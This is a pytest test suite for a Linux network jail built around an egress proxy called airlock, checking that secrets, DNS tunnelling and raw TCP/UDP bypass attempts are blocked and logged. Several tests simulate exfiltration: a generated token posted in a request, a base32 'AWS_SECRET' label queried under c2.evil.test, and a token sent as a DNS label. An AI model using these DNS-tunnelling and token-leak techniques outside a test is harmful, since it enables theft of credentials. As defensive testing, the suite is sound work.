"""`airlock run --jail -- CMD` (Linux, root): CMD in a network namespace whose only way out is
airlock.

Inside the jail a client that ignores the proxy variables is still intercepted (the kernel rules
redirect its connection to airlock's transparent listener, which takes the host from the TLS SNI
or the HTTP Host); names are answered by airlock's DNS with addresses from 198.18.0.0/15; any
other TCP port or UDP datagram is refused and recorded as a BYPASS threat; the namespace, the veth
pair and the nftables table go when CMD ends (or with the next jail, when airlock was killed).

The test names (`example.test`) resolve on the host side through the config's `resolve` map, as
everywhere in the suite; the local upstreams listen on the host's 127.0.0.1, which the jail cannot
reach except through airlock.

Every test skips unless it runs as root with `ip` and `nft` and may add a network namespace.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import os
import re
import secrets
import shutil
import signal
import struct
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from detect_fixtures import fresh_key, secret_windows
from e2e_helpers import AIRLOCK_BIN, airlock, clean_environ, pid_alive
from records import FLOWS, THREATS, merge_config, read_jsonl, wait_for, wait_records

JAIL_NET = ipaddress.ip_network("10.213.0.0/16")
DNS_POOL = ipaddress.ip_network("198.18.0.0/15")
PROXY_VARS = ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"]
# `env -u …` for every variable a client could take a proxy from (NODE_USE_ENV_PROXY: Node's own
# switch for them), so that what runs after it reaches the network only through the jail's rules.
NO_PROXY_ENV = ["env"] + [a for v in PROXY_VARS + ["NODE_USE_ENV_PROXY", "ALL_PROXY", "all_proxy"] for a in ("-u", v)]
CANARY = "canary.airlock.invalid"


# --------------------------------------------------------------------------- can this machine jail?

_jail_ok: tuple[bool, str] | None = None


def _can_jail() -> tuple[bool, str]:
    global _jail_ok
    if _jail_ok is not None:
        return _jail_ok
    if not sys.platform.startswith("linux"):
        _jail_ok = (False, "--jail is Linux only")
    elif os.geteuid() != 0:
        _jail_ok = (False, "--jail needs root (rootless mode is not built)")
    elif not shutil.which("ip", path=os.environ.get("PATH", "") + ":/usr/sbin:/sbin"):
        _jail_ok = (False, "the `ip` tool (iproute2) is not installed")
    elif not shutil.which("nft", path=os.environ.get("PATH", "") + ":/usr/sbin:/sbin"):
        _jail_ok = (False, "the `nft` tool (nftables) is not installed")
    else:
        name = f"alprobe{os.getpid()}"
        r = subprocess.run([_tool("ip"), "netns", "add", name], capture_output=True, text=True)
        if r.returncode != 0:
            _jail_ok = (False, f"`ip netns add` is not permitted here: {r.stderr.strip()}")
        else:
            subprocess.run([_tool("ip"), "netns", "del", name], capture_output=True)
            r = subprocess.run([_tool("nft"), "list", "tables"], capture_output=True, text=True)
            _jail_ok = (True, "") if r.returncode == 0 else (False, f"`nft list tables` fails: {r.stderr.strip()}")
    return _jail_ok


def _tool(name: str) -> str:
    return shutil.which(name, path=os.environ.get("PATH", "") + ":/usr/sbin:/sbin") or name


@pytest.fixture(autouse=True)
def _needs_jail():
    ok, why = _can_jail()
    if not ok:
        pytest.skip(why)


# --------------------------------------------------------------------------- running CMD in a jail


class JailSetup:
    """A data dir and config for `airlock run --jail` (a private instance unless one runs)."""

    def __init__(self, data_dir: Path, env: dict):
        self.data_dir = data_dir
        self.env = env

    @property
    def flows_path(self) -> Path:
        return self.data_dir / "logs" / FLOWS

    @property
    def threats_path(self) -> Path:
        return self.data_dir / "logs" / THREATS

    def flows(self, pred=None) -> list[dict]:
        return [f for f in read_jsonl(self.flows_path) if pred is None or pred(f)]

    def threats(self, pred=None) -> list[dict]:
        return [t for t in read_jsonl(self.threats_path) if pred is None or pred(t)]

    def wait_flows(self, pred, count: int = 1, timeout: float = 5.0) -> list[dict]:
        return wait_records(self.flows_path, pred, count, timeout, kind="flow")

    def wait_threats(self, pred, count: int = 1, timeout: float = 5.0) -> list[dict]:
        return wait_records(self.threats_path, pred, count, timeout, kind="threat")

    def run(self, *cmd, flags=(), env: dict | None = None, timeout: float = 45) -> subprocess.CompletedProcess:
        """`airlock run --jail [flags] -- CMD…` to completion (text output; `.pid` is airlock's)."""
        p = self.popen(*cmd, flags=flags, env=env)
        try:
            out, err = p.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            out, err = p.communicate()
            raise AssertionError(f"airlock run --jail -- {cmd} did not end within {timeout}s: {err[-2000:]}") from None
        r = subprocess.CompletedProcess(p.args, p.returncode, out, err)
        r.pid = p.pid
        return r

    def popen(self, *cmd, flags=(), env: dict | None = None) -> subprocess.Popen:
        return subprocess.Popen(
            [AIRLOCK_BIN, "run", "--jail", *flags, "--", *map(str, cmd)],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env or self.env,
        )


@pytest.fixture
def make_jail(start_proxy, run_env):
    """make_jail(extra_config) -> JailSetup: a fresh data dir, the base config (ephemeral proxy
    port, no transparent_port: `run --jail` starts a private instance) merged with extra."""

    def make(extra: dict | None = None) -> JailSetup:
        data_dir = start_proxy.new_data_dir()
        cfg = merge_config(start_proxy.base_config(), {"proxy_host": "127.0.0.1", "proxy_port": 0})
        cfg = merge_config(cfg, extra)
        return JailSetup(data_dir, run_env(data_dir, start_proxy.write_config(cfg)))

    return make


@pytest.fixture
def jail(make_jail) -> JailSetup:
    return make_jail()


def _ok(r: subprocess.CompletedProcess, what: str = "") -> subprocess.CompletedProcess:
    assert r.returncode == 0, (
        f"{what or 'airlock run --jail'}: rc={r.returncode}\nstdout={r.stdout[-3000:]}\nstderr={r.stderr[-3000:]}"
    )
    return r


def _py(code: str) -> list[str]:
    return [sys.executable, "-c", code]


def _tag() -> str:
    return uuid.uuid4().hex[:12]


def _in_jail_net(flow: dict) -> bool:
    try:
        return ipaddress.ip_address(flow.get("client_ip") or "") in JAIL_NET
    except ValueError:
        return False


def _is_canary(flow: dict) -> bool:
    """A canary request of verify (not the DNS query for the canary's name)."""
    return flow.get("host") == CANARY and flow.get("method") != "DNS"


def _tagged(tag: str):
    return lambda f: tag in (f.get("url") or "")


def _check_hello_flow(j: JailSetup, tag: str, scheme: str = "https") -> dict:
    flow = j.wait_flows(_tagged(tag))[0]
    assert flow.get("host") == "example.test", flow
    assert flow.get("scheme") == scheme, flow
    assert flow.get("port") == (443 if scheme == "https" else 80), flow
    assert flow.get("status") == 200, flow
    assert flow.get("action") == "allowed", flow
    assert _in_jail_net(flow), f"client_ip is not in {JAIL_NET}: {flow}"
    return flow


def _curl(*args) -> list[str]:
    return ["curl", "-sS", "--max-time", "15", "--noproxy", "*", *args]


# --------------------------------------------------------------------------- names left on the host


def _netns() -> set[str]:
    out = subprocess.run([_tool("ip"), "netns", "list"], capture_output=True, text=True).stdout
    return {line.split()[0] for line in out.splitlines() if line.split()}


def _links() -> set[str]:
    out = subprocess.run([_tool("ip"), "-o", "link", "show"], capture_output=True, text=True).stdout
    names = set()
    for line in out.splitlines():
        parts = line.split(":")
        if len(parts) > 1:
            names.add(parts[1].strip().split("@")[0])
    return names


def _tables() -> set[str]:
    out = subprocess.run([_tool("nft"), "list", "tables"], capture_output=True, text=True).stdout
    return {line.strip() for line in out.splitlines() if line.strip()}


def _leftovers(pid: int) -> list[str]:
    """What of jail `pid` is still on the host."""
    found = []
    if f"airlock-{pid}" in _netns():
        found.append(f"netns airlock-{pid}")
    if f"alh{pid}" in _links():
        found.append(f"link alh{pid}")
    if f"table ip airlock_{pid}" in _tables():
        found.append(f"nft table ip airlock_{pid}")
    return found


def _check_jail_files_gone(jail: JailSetup, bundle: str):
    """The CA bundle CMD was given: when it is a copy outside the data dir (made for the jail),
    its directory is gone with the jail."""
    assert bundle, "CMD had no SSL_CERT_FILE"
    path = Path(bundle)
    if not path.is_relative_to(jail.data_dir):
        assert not path.parent.exists(), f"the jail's files are still there: {path.parent}"


def _children(pid: int) -> list[int]:
    """Processes whose parent is pid."""
    out = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                stat = f.read()
        except OSError:
            continue
        fields = stat.rsplit(") ", 1)[1].split()
        if int(fields[1]) == pid:
            out.append(int(entry))
    return out


def _comm(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return ""


# --------------------------------------------------------------------------- DNS on the wire


def _dns_query(name: str, qtype: int = 1) -> bytes:
    qid = secrets.randbelow(65536)
    head = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return head + q + struct.pack("!HH", qtype, 1)


DNS_CLIENT = r"""
import json, socket, struct, sys
server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
out = {}
for label, hexq in json.loads(sys.argv[1]).items():
    q = bytes.fromhex(hexq)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (server, 53))
    try:
        a, _ = s.recvfrom(4096)
    except socket.timeout:
        out[label] = {"error": "timeout"}
        continue
    flags = struct.unpack('!H', a[2:4])[0]
    out[label] = {"id_ok": a[:2] == q[:2], "rcode": flags & 0xF, "qr": flags >> 15,
                  "ancount": struct.unpack('!H', a[6:8])[0]}
print(json.dumps(out))
"""


# =========================================================================== the tests


def test_clients_that_ignore_the_proxy_variables_are_intercepted(jail):
    # curl told to use no proxy at all
    tag = _tag()
    r = _ok(jail.run(*_curl(f"https://example.test/hello?curl={tag}")), "curl --noproxy '*'")
    assert r.stdout == "hello", r.stdout
    assert "airlock: jail:" in r.stderr, r.stderr
    _check_hello_flow(jail, tag)

    # Python urllib with proxies disabled, the bundle from SSL_CERT_FILE
    tag = _tag()
    code = (
        "import os, ssl, urllib.request\n"
        "ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])\n"
        "opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=ctx))\n"
        f"print(opener.open('https://example.test/hello?urllib={tag}', timeout=15).read().decode(), end='')\n"
    )
    r = _ok(jail.run(*_py(code)), "urllib without proxies")
    assert r.stdout == "hello", r.stdout
    _check_hello_flow(jail, tag)

    # a raw socket speaking plain HTTP to example.test:80
    tag = _tag()
    code = (
        "import socket\n"
        "s = socket.create_connection(('example.test', 80), timeout=15)\n"
        f"s.sendall(b'GET /hello?raw={tag} HTTP/1.1\\r\\nHost: example.test\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "data = b''\n"
        "while True:\n"
        "    chunk = s.recv(65536)\n"
        "    if not chunk: break\n"
        "    data += chunk\n"
        "print(data.decode('latin-1'), end='')\n"
    )
    r = _ok(jail.run(*_py(code)), "raw socket to example.test:80")
    # (the CLI helper reads text: "\r\n" arrives as "\n")
    head, _, body = r.stdout.partition("\n\n")
    assert re.match(r"HTTP/1\.1 200 ", head), r.stdout[:500]
    assert body == "hello", r.stdout[:500]
    _check_hello_flow(jail, tag, scheme="http")


def test_a_secret_in_an_intercepted_request_is_blocked(jail):
    key = fresh_key("github")
    tag = _tag()
    r = _ok(jail.run(*_curl("-i", "--data-urlencode", f"token={key.secret}", f"https://example.test/echo?leak={tag}")))
    head, _, body = r.stdout.replace("\r\n", "\n").partition("\n\n")
    lines = head.split("\n")
    assert re.match(r"HTTP/\S+ 403", lines[0]), r.stdout[:1000]
    headers = {k.strip().lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines[1:])}
    assert headers.get("x-airlock-block-reason") == "credential-leak", headers
    assert key.secret not in body
    flow = jail.wait_flows(_tagged(tag))[0]
    assert (flow["status"], flow["action"]) == (403, "blocked"), flow
    assert _in_jail_net(flow), flow
    t = jail.wait_threats(lambda t: t.get("pattern") == key.rule)[0]
    assert t["threat_type"] == "EXFIL", t
    assert t["action"] == "blocked", t
    assert t["dest"] == "example.test:443", t
    text = jail.flows_path.read_text() + jail.threats_path.read_text()
    assert key.secret not in text
    assert not [w for w in secret_windows(key) if w in text], "part of the secret is in the records"


TCP_CLIENT = r"""
import socket, subprocess, time
t0 = time.monotonic()
c = subprocess.run(["curl", "-sS", "--max-time", "10", "--noproxy", "*", "telnet://1.2.3.4:22"],
                   stdin=subprocess.DEVNULL, capture_output=True, text=True)
print("curl", c.returncode, round(time.monotonic() - t0, 2), c.stderr.strip().replace(" ", "_") or "-")
t0 = time.monotonic()
try:
    # the connect may succeed (airlock accepts, then resets) or be refused: both are a refusal
    s = socket.create_connection(("1.2.3.4", 5432), timeout=10)
    s.sendall(b"\0\0\0\x08\x04\xd2\x16\x2f")  # a PostgreSQL SSLRequest
    got = s.recv(100)
    print("python", "data" if got else "eof", round(time.monotonic() - t0, 2))
except OSError as e:
    print("python", type(e).__name__, round(time.monotonic() - t0, 2))
"""


def test_tcp_to_another_port_is_refused_and_recorded_as_bypass(jail):
    code = TCP_CLIENT
    r = _ok(jail.run(*_py(code)))
    out = {line.split()[0]: line.split()[1:] for line in r.stdout.splitlines() if line.split()}
    curl_rc, curl_secs = int(out["curl"][0]), float(out["curl"][1])
    assert curl_rc != 0, f"curl telnet://1.2.3.4:22 succeeded in the jail: {r.stdout}"
    assert curl_secs < 5, f"refusing took {curl_secs}s (a reset is expected at once): {r.stdout}"
    py = out["python"]
    refused = ("ConnectionResetError", "ConnectionRefusedError", "BrokenPipeError", "eof")
    assert py[0] in refused, f"python to 1.2.3.4:5432 was not refused: {r.stdout}"
    assert float(py[1]) < 5, r.stdout

    for dest, program in (("1.2.3.4:22", "curl"), ("1.2.3.4:5432", "python")):
        t = jail.wait_threats(lambda t, d=dest: t.get("threat_type") == "BYPASS" and t.get("dest") == d)[0]
        assert t["pattern"] == "bypass", t
        assert t["protocol"] == "tcp", t
        assert t["action"] == "blocked", t
        assert isinstance(t.get("pid"), int) and t["pid"] > 0, t
        assert str(t.get("program") or "").startswith(program), t
        host, port = dest.split(":")
        flow = jail.wait_flows(lambda f, h=host, p=int(port): f.get("host") == h and f.get("port") == p)[0]
        assert flow["action"] == "blocked", flow
        assert _in_jail_net(flow), flow


UDP_CLIENT = r"""
import socket, sys
port = int(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
if sys.argv[2] == "connected":
    s.connect(("1.2.3.4", port))
    s.send(b"ping")
else:
    s.sendto(b"ping", ("1.2.3.4", port))
s.settimeout(2)  # the socket stays open meanwhile: airlock may look its owner up
try:
    data, peer = s.recvfrom(100)
    print("answer", peer)
except OSError as e:
    print("no-answer", type(e).__name__)
"""


def _udp_bypass(jail: JailSetup, port: int, how: str) -> dict:
    r = _ok(jail.run(*_py(UDP_CLIENT), str(port), how))
    assert r.stdout.startswith("no-answer"), f"a UDP datagram to 1.2.3.4:{port} was answered: {r.stdout}"
    t = jail.wait_threats(lambda t: t.get("threat_type") == "BYPASS" and t.get("protocol") == "udp")[0]
    assert t["dest"] == f"1.2.3.4:{port}", t
    assert t["pattern"] == "bypass", t
    assert t["action"] == "blocked", t
    flow = jail.wait_flows(lambda f: f.get("port") == port and f.get("host") == "1.2.3.4")[0]
    assert flow["action"] == "blocked", flow
    assert _in_jail_net(flow), flow
    return t


def test_udp_other_than_dns_is_recorded_as_bypass(jail):
    # a connected UDP socket: its local address names it, so the record names the program
    t = _udp_bypass(jail, 9999, "connected")
    assert isinstance(t.get("pid"), int) and t["pid"] > 0, t
    assert str(t.get("program") or "").startswith("python"), t


def test_udp_bypass_from_an_unconnected_socket(jail):
    t = _udp_bypass(jail, 9998, "sendto")
    assert t.get("program") is None or str(t["program"]).startswith("python"), t


def test_udp_bypass_from_an_unconnected_socket_names_the_program(jail):
    t = _udp_bypass(jail, 9997, "sendto")
    assert isinstance(t.get("pid"), int) and t["pid"] > 0, t
    assert str(t.get("program") or "").startswith("python"), t


def test_dns_is_answered_by_airlock_and_logged(jail):
    tag = _tag()
    names = {"getent": f"getent-{tag}.example", "python": f"python-{tag}.example"}
    wire = {
        "plain": _dns_query(f"wire-{tag}.example").hex(),
        "aaaa": _dns_query(f"aaaa-{tag}.example", qtype=28).hex(),
    }
    script = (
        f"getent hosts {names['getent']}; echo getent-rc=$?; "
        f"{sys.executable} -c \"import socket; print('python', socket.gethostbyname('{names['python']}'))\"; "
        f"{sys.executable} -c \"$DNS_CLIENT\" '{json.dumps(wire)}'"
    )
    env = dict(jail.env, DNS_CLIENT=DNS_CLIENT)
    r = _ok(jail.run("sh", "-c", script, env=env))
    lines = r.stdout.splitlines()
    getent = [ln for ln in lines if names["getent"] in ln]
    assert getent, f"getent found no address: {r.stdout}"
    assert ipaddress.ip_address(getent[0].split()[0]) in DNS_POOL, getent
    py = [ln for ln in lines if ln.startswith("python ")]
    assert py and ipaddress.ip_address(py[0].split()[1]) in DNS_POOL, r.stdout
    wire_out = json.loads(lines[-1])
    assert wire_out["plain"] == {"id_ok": True, "rcode": 0, "qr": 1, "ancount": 1}, wire_out
    assert wire_out["aaaa"] == {"id_ok": True, "rcode": 0, "qr": 1, "ancount": 0}, wire_out

    for name in list(names.values()) + [f"wire-{tag}.example"]:
        flow = jail.wait_flows(lambda f, n=name: f.get("host") == n and f.get("method") == "DNS")[0]
        assert flow["scheme"] == "dns", flow
        assert flow["url"] == f"{name}:53", flow
        assert flow["action"] == "allowed", flow
        assert _in_jail_net(flow), flow


def _exfil_label() -> str:
    """A label of base32 data (what `hostname_exfil` exists for; see test_detect_families): text,
    so that it decodes to what it carries and every draw is flagged (the family's recall on
    random bytes is measured by the scan crate's tests, not here)."""
    return base64.b32encode(b"AWS_SECRET=" + secrets.token_hex(10).encode()).decode().rstrip("=").lower()


def _ask(jail: JailSetup, queries: dict) -> dict:
    env = dict(jail.env, DNS_CLIENT=DNS_CLIENT)
    arg = json.dumps({k: v.hex() for k, v in queries.items()})
    r = _ok(jail.run("sh", "-c", f"{sys.executable} -c \"$DNS_CLIENT\" '{arg}'", env=env))
    return json.loads(r.stdout.splitlines()[-1])


def test_dns_name_flagged_by_detection_is_refused(make_jail):
    tag = _tag()
    name = f"{_exfil_label()}.{tag}.c2.evil.test"
    # hostname_exfil: block -> REFUSED, and a blocked threat
    j = make_jail({"detect": {"hostname_exfil": "block"}})
    out = _ask(j, {"q": _dns_query(name), "ok": _dns_query(f"fine-{tag}.example")})
    assert out["q"]["rcode"] == 5 and out["q"]["ancount"] == 0, f"{name} was not REFUSED: {out}"
    assert out["ok"]["rcode"] == 0, out
    t = j.wait_threats(lambda t: t.get("pattern") == "hostname_exfil")[0]
    assert t["action"] == "blocked", t
    flow = j.wait_flows(lambda f: f.get("method") == "DNS" and tag in (f.get("host") or "") and "c2" in f["host"])[0]
    assert flow["action"] == "blocked", flow
    # the default (warn): answered, and warned
    j = make_jail()
    out = _ask(j, {"q": _dns_query(name)})
    assert out["q"]["rcode"] == 0 and out["q"]["ancount"] == 1, out
    t = j.wait_threats(lambda t: t.get("pattern") == "hostname_exfil")[0]
    assert t["action"] == "warned", t


def test_dns_name_carrying_a_token_is_refused(jail):
    key = fresh_key("github")
    tag = _tag()
    out = _ask(jail, {"q": _dns_query(f"{key.secret}.{tag}.example")})
    assert out["q"]["rcode"] == 5, f"a query carrying a GitHub token was not REFUSED: {out}"
    text = jail.flows_path.read_text() + (jail.threats_path.read_text() if jail.threats_path.exists() else "")
    assert key.secret.lower() not in text.lower(), "the token sent as a DNS label is in clear in the records"


def test_node_and_aiohttp_clients_are_intercepted(jail):
    if not shutil.which("node"):
        pytest.skip("node is not installed")
    tag = _tag()
    js = (
        "const urls = process.argv.slice(1);\n"
        "(async () => { for (const u of urls) { const r = await fetch(u); console.log(r.status, await r.text()); } })()\n"
        "  .catch(e => { console.error(e); process.exit(1); });\n"
    )
    https_url = f"https://example.test/hello?node={tag}"
    http_url = f"http://example.test/hello?nodeplain={tag}"
    r = _ok(jail.run(*NO_PROXY_ENV, "node", "-e", js, https_url, http_url), "node fetch")
    assert r.stdout.splitlines() == ["200 hello", "200 hello"], r.stdout
    _check_hello_flow(jail, f"node={tag}")
    _check_hello_flow(jail, f"nodeplain={tag}", scheme="http")

    code = (
        "import asyncio, sys, aiohttp\n"
        "async def main():\n"
        "    async with aiohttp.ClientSession() as s:\n"  # trust_env False: the variables are ignored
        "        for u in sys.argv[1:]:\n"
        "            async with s.get(u, timeout=aiohttp.ClientTimeout(total=15)) as r:\n"
        "                print(r.status, await r.text())\n"
        "asyncio.run(main())\n"
    )
    r = _ok(jail.run(*_py(code), f"https://example.test/hello?aiohttp={tag}",
                     f"http://example.test/hello?aiohttpplain={tag}"), "aiohttp")
    assert r.stdout.splitlines() == ["200 hello", "200 hello"], r.stdout
    _check_hello_flow(jail, f"aiohttp={tag}")
    _check_hello_flow(jail, f"aiohttpplain={tag}", scheme="http")


_got_dir: Path | None = None


def _install_got(tmp_path_factory) -> Path | None:
    global _got_dir
    if _got_dir is not None:
        return _got_dir if (_got_dir / "node_modules" / "got").is_dir() else None
    _got_dir = tmp_path_factory.mktemp("got")
    if not shutil.which("npm"):
        return None
    try:
        r = subprocess.run(
            ["npm", "install", "--no-audit", "--no-fund", "--silent", "got@14"],
            cwd=_got_dir, capture_output=True, text=True, timeout=60, env=clean_environ(),
        )
    except subprocess.TimeoutExpired:
        return None
    return _got_dir if r.returncode == 0 and (_got_dir / "node_modules" / "got").is_dir() else None


def test_got_is_intercepted(jail, tmp_path_factory):
    if not shutil.which("node"):
        pytest.skip("node is not installed")
    d = _install_got(tmp_path_factory)
    if d is None:
        pytest.skip("could not install got with npm (optional)")
    script = d / "get.mjs"
    script.write_text(
        "import got from 'got';\n"
        "const r = await got(process.argv[2], {retry: {limit: 0}, timeout: {request: 15000}});\n"
        "console.log(r.statusCode, r.body);\n"
    )
    tag = _tag()
    r = _ok(jail.run(*NO_PROXY_ENV, "node", str(script), f"https://example.test/hello?got={tag}"), "got")
    assert r.stdout.strip() == "200 hello", r.stdout
    _check_hello_flow(jail, f"got={tag}")


def test_verify_inside_the_jail(jail):
    r = _ok(jail.run(AIRLOCK_BIN, "verify"), "airlock verify in the jail")
    assert "airlock is in the path." in r.stdout, r.stdout
    r = _ok(jail.run(*NO_PROXY_ENV, AIRLOCK_BIN, "verify"), "airlock verify in the jail without proxy variables")
    assert "transparent" in r.stdout, r.stdout
    assert "airlock is in the path." in r.stdout, r.stdout
    canaries = jail.wait_flows(lambda f: _is_canary(f) and _in_jail_net(f), count=4)
    assert {f["action"] for f in canaries} == {"blocked"}, canaries


def test_run_checks_the_jail_before_cmd_unless_no_verify(jail):
    r = _ok(jail.run("true"))
    # run's own check is the canary pair, sent from inside the jail
    canaries = jail.wait_flows(lambda f: _is_canary(f) and _in_jail_net(f), count=2)
    assert {f.get("scheme") for f in canaries} == {"http", "https"}, canaries
    before = len(jail.flows(_is_canary))
    r = _ok(jail.run("true", flags=["--no-verify"]))
    time.sleep(0.5)
    assert len(jail.flows(_is_canary)) == before, "--no-verify still sent the canaries"
    assert "airlock: jail:" in r.stderr, r.stderr


def test_the_jail_is_removed_when_cmd_ends(jail):
    # CMD exits by itself
    r = _ok(jail.run("true"))
    assert f"airlock-{r.pid}" in r.stderr, r.stderr
    assert _leftovers(r.pid) == [], f"left after CMD ended: {_leftovers(r.pid)}"
    r = jail.run("sh", "-c", 'echo "$SSL_CERT_FILE"; exit 3')
    assert r.returncode == 3, (r.returncode, r.stderr)
    assert _leftovers(r.pid) == [], f"left after CMD failed: {_leftovers(r.pid)}"
    _check_jail_files_gone(jail, r.stdout.strip())
    # CMD killed by a signal while the jail is up
    p = jail.popen("sleep", "30")
    try:
        wait_for(lambda: len(_leftovers(p.pid)) == 3, timeout=20,
                 what=f"namespace, link and table of jail {p.pid}", show=lambda _: _leftovers(p.pid))
        table = subprocess.run([_tool("nft"), "list", "table", "ip", f"airlock_{p.pid}"],
                               capture_output=True, text=True).stdout
        assert f'iifname "alh{p.pid}"' in table, table
        sleeper = wait_for(lambda: [c for c in _children(p.pid) if _comm(c) == "sleep"], timeout=20,
                           what="the sleep child of airlock")[0]
        os.kill(sleeper, signal.SIGTERM)
        _, err = p.communicate(timeout=20)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait(5)
    assert p.returncode == 128 + signal.SIGTERM, f"rc={p.returncode} {err}"
    assert f"airlock-{p.pid}" in err and "airlock: jail:" in err, err
    assert _leftovers(p.pid) == [], f"left after CMD ended: {_leftovers(p.pid)}"


def test_a_killed_airlock_leaves_nothing_for_long(jail):
    p = jail.popen("sh", "-c", 'echo "$SSL_CERT_FILE"; exec sleep 30')
    try:
        wait_for(lambda: f"airlock-{p.pid}" in _netns(), timeout=20, what=f"netns airlock-{p.pid}")
        bundle = p.stdout.readline().strip()
        sleeper = wait_for(lambda: [c for c in _children(p.pid) if _comm(c) == "sleep"], timeout=20,
                           what="the sleep child of airlock")[0]
        p.send_signal(signal.SIGKILL)
        p.wait(10)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait(5)
    # PR_SET_PDEATHSIG: CMD dies with airlock
    wait_for(lambda: not pid_alive(sleeper), timeout=5, what=f"CMD (pid {sleeper}) to die with airlock")
    # whatever is left (the kill left everything) goes with the next jail
    left = _leftovers(p.pid)
    _ok(jail.run("true"))
    assert _leftovers(p.pid) == [], f"the next --jail left the killed jail's {_leftovers(p.pid)} (was {left})"
    _check_jail_files_gone(jail, bundle)


def test_jail_uses_the_running_instance_with_a_transparent_port(start_proxy, run_env):
    p = start_proxy({"transparent_port": 0})
    transparent = p.boot.get("transparent")
    assert isinstance(transparent, str) and re.fullmatch(r"127\.0\.0\.1:\d+", transparent), p.boot
    assert int(transparent.rpartition(":")[2]) != 0, f"boot line does not name the bound port: {p.boot}"
    env = run_env(p.data_dir, p.config_path)
    status = json.loads(_ok(airlock("status", "--json", env=env), "status").stdout)
    pid_before = status.get("pid")
    tag = _tag()
    script = f"env; curl -sS --max-time 15 --noproxy '*' https://example.test/hello?running={tag}"
    r = _ok(airlock("run", "--jail", "--", "sh", "-c", script, env=env, timeout=45))
    assert r.stdout.endswith("hello"), r.stdout[-500:]
    child = dict(line.partition("=")[::2] for line in r.stdout.splitlines() if "=" in line)
    m = re.fullmatch(r"http://(10\.213\.\d+\.\d+):(\d+)/?", child.get("HTTPS_PROXY", ""))
    assert m and int(m.group(2)) == p.port, f"HTTPS_PROXY={child.get('HTTPS_PROXY')!r}, the instance listens on {p.port}"
    flow = p.wait_flows(_tagged(tag))[0]
    assert (flow["host"], flow["status"]) == ("example.test", 200), flow
    assert _in_jail_net(flow), flow
    assert p.alive(), "the running instance exited"
    status = json.loads(_ok(airlock("status", "--json", env=env), "status").stdout)
    assert status.get("running") is True and status.get("pid") == pid_before == p.proc.pid, status


def test_jail_refuses_a_running_instance_without_transparent_port(start_proxy, run_env):
    p = start_proxy()
    assert "transparent" not in p.boot or not p.boot["transparent"], p.boot
    marker = p.data_dir / "cmd-ran"
    r = airlock("run", "--jail", "--", "touch", str(marker), env=run_env(p.data_dir, p.config_path), timeout=45)
    assert r.returncode == 1, (r.returncode, r.stdout, r.stderr)
    assert "transparent_port" in r.stderr, r.stderr
    assert not marker.exists(), "CMD ran"
    assert p.alive()


def test_cmd_runs_as_the_sudo_user(jail):
    env = dict(jail.env, SUDO_UID="65534", SUDO_GID="65534", SUDO_USER="nobody")
    r = _ok(jail.run("id", "-u", env=env))
    assert r.stdout.strip() == "65534", r.stdout
    r = _ok(jail.run("id", "-g", env=env))
    assert r.stdout.strip() == "65534", r.stdout
    tag = _tag()
    r = _ok(jail.run(*_curl(f"https://example.test/hello?sudo={tag}"), env=env), "curl as uid 65534")
    assert r.stdout == "hello", r.stdout
    _check_hello_flow(jail, tag)


def test_wget_works_for_the_sudo_user(jail):
    if not shutil.which("wget"):
        pytest.skip("wget is not installed")
    env = dict(jail.env, SUDO_UID="65534", SUDO_GID="65534", SUDO_USER="nobody")
    tag = _tag()
    r = jail.run("wget", "-q", "-T", "15", "-O", "-", f"https://example.test/hello?wget={tag}", env=env)
    assert (r.returncode, r.stdout) == (0, "hello"), f"rc={r.returncode} {r.stdout!r} {r.stderr[-1500:]}"
    _check_hello_flow(jail, tag)
